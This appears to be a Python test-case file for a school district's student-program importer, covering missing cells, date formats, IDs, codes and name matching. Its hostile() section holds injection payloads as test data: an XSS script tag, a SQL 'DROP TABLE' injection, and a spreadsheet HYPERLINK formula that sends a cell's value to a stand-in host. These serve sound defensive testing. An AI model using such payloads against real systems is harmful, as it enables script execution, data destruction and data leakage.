"""One cell: what it lacks, holds or looks like. IDs, dates, numbers, codes, names."""

from district import (
    CLOSED_GIFTED, OPEN_504, OPEN_ASSISTANCE, OPEN_WITHOUT_SITE, Case, but, case, program,
)  # fmt: skip

NEW = program("100206")


def cases() -> list[Case]:
    """All cases of this file."""
    return [
        *texts(), *hostile(), *ids(), *dates(), *date_orders(), *starts(), *numbers(), *codes(),
        *names(),
    ]  # fmt: skip


def one(name: str, why: str, problems=None, **changes: str) -> Case:
    """A new row for Robert Vance with some cells changed, which is inserted all the same."""
    return case(name, why, [but(NEW, **changes), OPEN_504], problems, inserted=1, unchanged=1)


def bad(name: str, why: str, problems: dict[str, int], *changed: dict[str, str]) -> Case:
    """For each of `changed` another student's new row with these changes; all are rejected."""
    students = ("100206", "100207", "100208", "100209", "100210")
    rows = [but(program(number), **changes) for number, changes in zip(students, changed)]
    assert len(rows) == len(changed), name
    return case(name, why, [*rows, OPEN_504], problems, unchanged=1, rejected=len(rows))


def texts() -> list[Case]:
    return [
        bad("missing-cells", "Five rows lack one required cell each.", {"cell.missing": 5},
            {"id": ""}, {"last": ""}, {"first": ""}, {"birth": ""}, {"code": ""}),
        bad("missing-spaces", "Three rows have spaces where a required cell should be.",
            {"cell.missing": 3}, {"last": "  "}, {"birth": "   "}, {"code": " "}),
        bad("too-long", "A state ID of 31 and a middle name of 201 characters.",
            {"cell.too-long": 2}, {"state": "4" * 31}, {"middle": "M" * 201}),
        one("long-enough",
            "A state ID of 30 and a middle name of 200 characters, which take 400 bytes.",
            state="4" * 30, middle="é" * 200),
        one("spaces", "Spaces stand around three cells.", {"cell.trimmed": 3},
            last="Vance ", first="  Robert", code=" 127 "),
        one("no-break-spaces", "No-break spaces stand around two cells.", {"cell.trimmed": 2},
            last="\u00a0Vance", code="127\u00a0\u00a0"),
        bad("nul", "A middle name holds a NUL byte.", {"cell.nul": 1}, {"middle": "Le\0e"}),
        bad("many-problems", "One row has six things wrong; all are reported.",
            {"cell.missing": 1, "program.unknown-code": 1, "date.two-digit-year": 1,
             "date.serial": 1, "year.invalid": 1, "number.invalid": 1},
            {"birth": "", "code": "999", "eligible": "09/02/25", "start": "45908",
             "year": "2025", "site": "Cedar"}),
    ]  # fmt: skip


def hostile() -> list[Case]:
    link = '=HYPERLINK("http://example.invalid/"&A1,"Robert")'
    return [
        one("html", "A last name and a middle name hold HTML; it is kept as it is.",
            last="Vance<img src=x onerror=alert(1)>", middle="<script>alert('x')</script>"),
        one("sql", "A middle name holds SQL; it is kept as it is.",
            middle="Lee'); DROP TABLE student;--"),
        one("formula", "A middle name is a spreadsheet formula; it is kept as it is.",
            middle=link),
        bad("formula-rejected",
            "A rejected row holds formulas, which the error file must make harmless.",
            {"date.invalid": 1},
            {"middle": link, "state": "@SUM(1+1)", "birth": "+1"}),
        one("right-to-left", "A middle name holds a right-to-left override, which is kept.",
            {"cell.invisible": 1}, middle="Lee\u202egnirts"),
        one("zero-width", "Zero-width spaces stand in the last and the middle name.",
            {"cell.invisible": 2}, last="Van\u200bce", middle="Le\u200be"),
        case("zero-width-id", "A zero-width space hides in the ID, so that no student has it.",
             [but(NEW, id="100206\u200b"), OPEN_504],
             {"cell.invisible": 1, "program.unknown-student": 1}, unchanged=1, rejected=1),
        one("emoji", "A middle name holds an emoji.", middle="Lee 🎒"),
    ]  # fmt: skip


def ids() -> list[Case]:
    lost = {"program.unknown-student": 1, "id.leading-zeros": 1}
    mara = program("000100123")
    return [
        case("id-with-leading-zeros", "An ID begins with zeros, which belong to it.",
             [OPEN_WITHOUT_SITE, mara], inserted=1, unchanged=1),
        case("id-zeros-lost", "A spreadsheet made 100123 of 000100123.",
             [but(mara, id="100123"), OPEN_504], lost, unchanged=1, rejected=1),
        case("id-zeros-added", "A sender filled 100206 up to nine digits.",
             [but(NEW, id="000100206"), OPEN_504], lost, unchanged=1, rejected=1),
        bad("id-scientific", "A spreadsheet rewrote IDs as 1E+09 and 1.00206E+05.",
            {"id.scientific": 2}, {"id": "1E+09"}, {"id": "1.00206E+05"}),
        bad("id-decimal", "A database wrote the ID as 100206.0.", {"program.unknown-student": 1},
            {"id": "100206.0"}),
        bad("student-unknown", "No student has this ID.", {"program.unknown-student": 1},
            {"id": "999999"}),
    ]  # fmt: skip


def dates() -> list[Case]:
    return [
        case("date-iso", "Dates are written 2025-09-02.",
             [but(OPEN_504, birth="2011-07-22", eligible="2025-09-02", start="2025-09-02"),
              but(NEW, start="2025-09-08")], inserted=1, unchanged=1),
        case("date-one-digit", "Months and days have one digit: 9/2/2025.",
             [but(OPEN_504, birth="7/22/2011", eligible="9/2/2025", start="9/2/2025"), NEW],
             inserted=1, unchanged=1),
        one("date-leap-day", "02/29/2024 is a day of the calendar.",
            start="02/29/2024", year="2023-2024"),
        bad("date-impossible", "02/30, 02/29 of a common year, 04/31 and month 13.",
            {"date.invalid": 4}, {"start": "02/30/2026"}, {"start": "02/29/2026"},
            {"start": "04/31/2026"}, {"start": "13/13/2026"}),
        bad("date-serial", "A spreadsheet's day counts, one with a time of day.",
            {"date.serial": 2}, {"start": "45908"}, {"birth": "40148.5"}),
        bad("date-two-digit-year", "Years of two digits.", {"date.two-digit-year": 2},
            {"start": "09/08/25"}, {"birth": "12-01-09"}),
        bad("date-time", "Dates with a time of day.", {"date.time": 3},
            {"start": "09/08/2025 00:00:00"}, {"start": "2025-09-08T00:00:00"},
            {"birth": "12/1/2009 12:00 AM"}),
        bad("date-range", "Years 205 and 2205, and 1825.", {"date.range": 3},
            {"start": "09/08/0205"}, {"end": "06/12/2205"}, {"birth": "12/01/1825"}),
        bad("date-other-forms", "20250908, 09-08-2025, 09.08.2025, Sept 8, 2025 and 9/8/20255.",
            {"date.invalid": 5}, {"start": "20250908"}, {"start": "09-08-2025"},
            {"start": "09.08.2025"}, {"start": "Sept 8, 2025"}, {"start": "9/8/20255"}),
        bad("date-order", "An end lies before its start, in one row in both pairs.",
            {"date.order": 3}, {"end": "09/07/2025"},
            {"eligible": "09/02/2025", "eligible_end": "09/01/2025", "end": "09/01/2025"}),
        one("date-order-one-day", "Both pairs begin and end on one day, as end dates count in.",
            eligible="09/02/2025", eligible_end="09/02/2025", end="09/08/2025"),
        one("date-none", "01/01/1900 stands for no date in both end dates.", {"date.none": 2},
            end="01/01/1900", eligible_end="01/01/1900"),
        one("date-none-start", "01/01/1900 in Program Start Date, so eligibility's takes over.",
            {"date.none": 1, "program.start-from-eligibility": 1},
            start="01/01/1900", eligible="09/02/2025"),
    ]  # fmt: skip


def date_orders() -> list[Case]:
    known = but(OPEN_504, birth="22/07/2011", eligible="02/09/2025", start="02/09/2025")
    return [
        case("day-first", "Some dates can only be day first, none only month first.",
             [known, but(OPEN_ASSISTANCE, birth="17/02/2012", start="02/09/2025"),
              but(NEW, birth="01/12/2009", start="08/09/2025")],
             {"file.day-first": 1}, inserted=1, unchanged=2),
        case("day-first-contradicted",
             "One date can only be day first, another only month first: the month comes first.",
             [but(OPEN_504, birth="22/07/2011"), OPEN_ASSISTANCE],
             {"date.invalid": 1}, unchanged=1, rejected=1),
        case("day-first-or-not", "Every date with slashes can be read either way: month first.",
             [but(NEW, birth="12/01/2009", start="09/08/2025")], inserted=1),
    ]  # fmt: skip


def starts() -> list[Case]:
    return [
        one("start-from-eligibility", "Program Start Date is blank; Eligibility Start Date is not.",
            {"program.start-from-eligibility": 1}, start="", eligible="09/08/2025"),
        bad("start-missing", "Both start dates are blank.", {"program.no-start": 1},
            {"start": ""}),
        bad("year-invalid", "2025, 2025-2027, 2025-26, 2026-2025 and a word.",
            {"year.invalid": 5}, {"year": "2025"}, {"year": "2025-2027"}, {"year": "2025-26"},
            {"year": "2026-2025"}, {"year": "this year"}),
    ]  # fmt: skip


def numbers() -> list[Case]:
    return [
        bad("site-text", "A name, a fraction and a letter O for a zero as Site ID.",
            {"number.invalid": 3}, {"site": "Cedar High"}, {"site": "1030.5"}, {"site": "1O30"}),
        case("site-leading-zeros", "Site ID 01010 is site 1010, so the row is known.",
             [but(OPEN_504, site="01010"), NEW], {"number.leading-zeros": 1},
             inserted=1, unchanged=1),
        one("site-unknown", "The district has no site 9999.", {"program.unknown-site": 1},
            site="9999"),
        one("site-blank", "A blank Site ID is a value of its own.", site=""),
        case("site-blank-known", "A blank Site ID matches a record without a site.",
             [OPEN_WITHOUT_SITE], unchanged=1),
    ]  # fmt: skip


def codes() -> list[Case]:
    return [
        case("code-unknown", "Three rows with two Program IDs that the code table lacks.",
             [but(NEW, code="122"), program("100207", "122"), program("100208", "L25R"),
              OPEN_504],
             {"program.unknown-code": 3}, unchanged=1, rejected=3),
        case("code-new",
             "Eligibility code 2 in two rows and exit code 20 in one are new to their code tables.",
             [but(NEW, eligibility="2"),
              program("100207", end="10/01/2025", eligibility="2", exit="20"), OPEN_504],
             {"program.new-code": 2}, inserted=2, unchanged=1),
        case("code-inactive", "A row with a program code that is not active any more is taken.",
             [but(NEW, code="130"), OPEN_504],
             {"program.inactive-code": 1}, inserted=1, unchanged=1),
    ]  # fmt: skip


def names() -> list[Case]:
    def known(name: str, why: str, problems=None, row=OPEN_504, **changes: str) -> Case:
        return case(name, why, [but(row, **changes)], problems, unchanged=1)

    differs = {"program.name-differs": 1}
    born = {"program.birth-date-differs": 1}
    return [
        known("name-differs", "The name is quite another than the student's.", differs,
              last="Rossi", first="Paolo"),
        known("name-upper-case", "The name is in capitals.", last="CASTELLANO", first="LIAM"),
        known("name-decomposed", "Accents are characters of their own (NFD).", row=CLOSED_GIFTED,
              last="Nu\u0301n\u0303ez", first="Zoe\u0308", middle="Ine\u0301s"),
        known("name-without-accents", "The accents were dropped.", row=CLOSED_GIFTED,
              last="Nunez", first="Zoe", middle="Ines"),
        known("name-without-apostrophe", "O'Brien is written OBrien.", row=OPEN_ASSISTANCE,
              last="OBrien"),
        known("name-misspelt", "One letter of Castellano is missing.", last="Castelano"),
        known("name-initial", "The first name is an initial.", first="L."),
        case("name-part", "One half of a double name is left out.",
             [program("100208", last="Garcia"), program("100203", first="Anna", last="Smith")],
             inserted=2),
        case("name-nickname", "Bob for Robert is neither the same nor its beginning.",
             [but(NEW, first="Bob")], differs, inserted=1),
        case("name-short", "Lee for Le: one letter off, but too short to call it a slip.",
             [program("100212", last="Lee")], differs, inserted=1),
        known("name-swapped", "Last and first name have changed places.", differs,
              last="Liam", first="Castellano"),
        case("twins-swapped", "The row has one twin's ID and the other's name.",
             [program("100204", first="Emma")], differs, inserted=1),
        known("birth-date-differs", "The birth date is not the student's.", born,
              birth="07/23/2011"),
        known("wrong-id", "Name and birth date are another student's: the ID is wrong.",
              {**differs, **born}, last="Okafor", first="Chidi", birth="08/08/2010"),
    ]  # fmt: skip
